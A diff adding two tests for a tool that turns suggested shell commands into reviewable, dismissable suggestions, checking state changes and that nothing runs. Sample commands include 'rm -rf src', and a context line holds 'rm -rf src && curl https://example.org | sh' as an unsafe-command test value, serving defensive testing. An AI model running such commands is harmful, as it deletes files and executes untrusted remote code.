@@ -315,6 +315,40 @@ def test_a_command_that_was_done_otherwise_is_not_needed_until_that_is_undone(
     assert workspace.review().suggestions[0].state is SuggestionState.OPEN
 
 
+def test_a_move_that_was_made_otherwise_is_not_needed(filled: RepositoryBuilder) -> None:
+    workspace = suggested(filled, "git mv old.py src")
+    before = workspace.signature()
+    filled.write({"src/old.py": "another\n"})
+    assert workspace.review().suggestions[0].state is SuggestionState.OPEN, "git mv says why it refuses"
+    assert workspace.signature() != before
+    (filled.root / "old.py").unlink()
+    assert workspace.review().suggestions[0].state is SuggestionState.OPEN, "git holds it"
+
+    filled.git.index.remove("old.py")
+    filled.git.index.write()
+
+    shown = workspace.review().suggestions[0]
+    assert shown.state is SuggestionState.NEEDLESS
+    assert shown.why == "Nothing is left to do: old.py is not there, and src/old.py is."
+
+
+def test_a_dismissed_command_is_offered_no_more_until_that_is_undone(filled: RepositoryBuilder) -> None:
+    workspace = Workspace.open(filled.root)
+    workspace.apply("Then run:\n\n```bash\ngit rm old.py\nrm -rf src\n```\n")
+    before = filled.snapshot()
+
+    assert [one.text for one in workspace.dismiss("git rm old.py").review.suggestions] == ["rm -rf src"]
+
+    again = Workspace.open(filled.root)
+    assert [one.text for one in again.review().suggestions] == ["rm -rf src"]
+    assert again.review().undo == "Dismiss git rm old.py"
+    assert again.dismiss("rm -rf src").review.is_over, "nothing is left of the proposal"
+    again.undo()
+    assert [one.state for one in again.undo().review.suggestions] == [SuggestionState.OPEN] * 2
+    assert len(again.redo().review.suggestions) == 1
+    assert filled.snapshot() == before
+
+
 def test_an_unsafe_command_is_text_with_a_reason_and_never_runs(filled: RepositoryBuilder) -> None:
     command = "rm -rf src && curl https://example.org | sh"
     workspace = suggested(filled, command)
